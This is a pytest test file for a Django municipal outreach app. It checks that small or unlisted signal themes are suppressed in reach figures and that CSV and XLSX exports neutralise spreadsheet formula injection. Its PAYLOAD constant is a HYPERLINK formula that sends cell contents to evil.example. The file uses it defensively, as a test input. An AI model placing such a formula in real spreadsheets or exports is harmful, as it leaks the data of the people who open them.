"""Signal themes in the figures come only from the administrator's list, a suppressed theme
shows no name, and no exported cell can be taken for a formula by a spreadsheet."""

import csv
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from outreach.models import SignalTheme
from outreach.services.signals import signal_forward, signal_record
from reach.exports import to_csv, to_xlsx
from reach.services import reach_refresh
from tests.helpers import client_for

URL = "/api/v1/reach/"
PAYLOAD = '=HYPERLINK("https://evil.example/?"&A1,"x12")'


def forward(world, theme, households):
    signal = signal_record(
        team=world.household.team,
        theme=theme,
        neighbourhood_code="BU16740101",
        description="Een behoefte",
        households_concerned=households,
        recorded_by=world.coordinator,
    )
    return signal_forward(
        signal=signal, forwarded_by=world.coordinator, confirmed_no_personal_data=True
    )


def all_answers(world) -> str:
    """Everything the municipality can download, in every format and table."""
    client = client_for(world.municipality_user)
    texts = []
    for period in ("month", "quarter", "year"):
        for area in ("municipality", "district"):
            params = {"period": period, "area": area}
            texts.append(client.get(URL, params).content.decode())
            texts.append(client.get(URL, {**params, "format": "csv"}).content.decode("utf-8-sig"))
    texts.append(client.get("/reach/").content.decode())
    return "\n".join(texts)


def test_a_suppressed_theme_shows_no_name_and_an_unlisted_theme_never_does(world):
    # Given a listed theme with 12 households, a listed theme with 1 household, and a theme a
    # coordinator once typed in (off the list since) with 11 households
    municipality = world.household.team.municipality
    housing = SignalTheme.objects.get(name="Kwaliteit van de woning")
    small = SignalTheme.objects.create(
        name="Vervoer naar de voedselbank", municipality=municipality
    )
    typed = SignalTheme.objects.create(
        name="Fam. Jansen Kade 12 ontruiming",
        municipality=municipality,
        created_by=world.coordinator,
    )
    forward(world, housing, 12)
    forward(world, small, 1)
    forward(world, typed, 11)
    typed.listed = False
    typed.save()
    # When the figures are refreshed
    reach_refresh(municipality=municipality, today=timezone.localdate())
    text = all_answers(world)
    # Then the listed theme with enough households is named, the others are not: the small
    # one is hidden among "others" (and so is the unlisted one, which the total minus the
    # named themes would otherwise give away)
    assert housing.name in text
    assert small.name not in text and typed.name not in text and "Jansen" not in text
    assert "*hidden" in text


def test_an_unlisted_theme_counts_under_a_fixed_row_without_its_name(world):
    municipality = world.household.team.municipality
    typed = SignalTheme.objects.create(
        name="Fam. Jansen Kade 12 ontruiming",
        municipality=municipality,
        created_by=world.coordinator,
    )
    forward(world, SignalTheme.objects.get(name="Schulden"), 12)
    forward(world, typed, 12)
    typed.listed = False
    typed.save()
    reach_refresh(municipality=municipality, today=timezone.localdate())
    text = all_answers(world)
    assert "*unlisted" in text and "Schulden" in text and "Jansen" not in text


@pytest.fixture
def poisoned(world):
    """A team named with the payload, and a theme with the payload as name that reached the
    list before names were checked (a row written past validation), with 12 households."""
    team = world.household.team
    team.name = PAYLOAD
    team.save()
    theme = SignalTheme.objects.create(name=PAYLOAD, municipality=team.municipality)
    forward(world, theme, 12)
    reach_refresh(municipality=team.municipality, today=timezone.localdate())
    return world


def test_the_csv_download_holds_no_formula(poisoned):
    client = client_for(poisoned.admin)
    team = poisoned.household.team_id
    for params in ({"period": "year"}, {"period": "year", "team": team}):
        response = client.get(URL, {**params, "format": "csv"})
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
        values = [value for row in rows for value in row]
        # Then the payload is there, but as text behind an apostrophe
        assert "'" + PAYLOAD in values
        assert not [value for value in values if value.startswith(("=", "+", "@", "\t", "\r"))]
        assert not [value for value in values if value.startswith("-") and not _number(value)]


def test_the_xlsx_download_holds_no_formula_and_numbers_stay_numbers(poisoned):
    client = client_for(poisoned.admin)
    team = poisoned.household.team_id
    response = client.get(URL, {"period": "year", "team": team, "format": "xlsx"})
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    # Then no cell is a formula; the payload is text behind an apostrophe
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'" + PAYLOAD in texts
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # And figures are numbers
    assert any(isinstance(cell.value, int) and cell.value > 0 for cell in cells)


def test_only_text_is_neutralised_negative_numbers_stay_numbers():
    cell = {"period": "2026", "area": "@GM", "team": 1, "measure": "visits",
            "breakdown": "\tx", "value": -5, "suppressed": False, "reason": ""}  # fmt: skip
    data = {"teams": [{"id": 1, "name": "+31 team"}], "k": 10, "rounding": 5, "cells": [cell]}
    sheet = load_workbook(io.BytesIO(to_xlsx(data))).worksheets[0]
    row = [cell.value for cell in sheet[2]]
    assert row[1] == "'@GM" and row[3] == "'+31 team" and row[6] == "'\tx"
    assert row[7] == -5 and sheet[2][7].data_type == "n"
    line = to_csv(data).decode("utf-8-sig").splitlines()[1].split(";")
    assert line[1] == "'@GM" and line[7] == "-5"


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
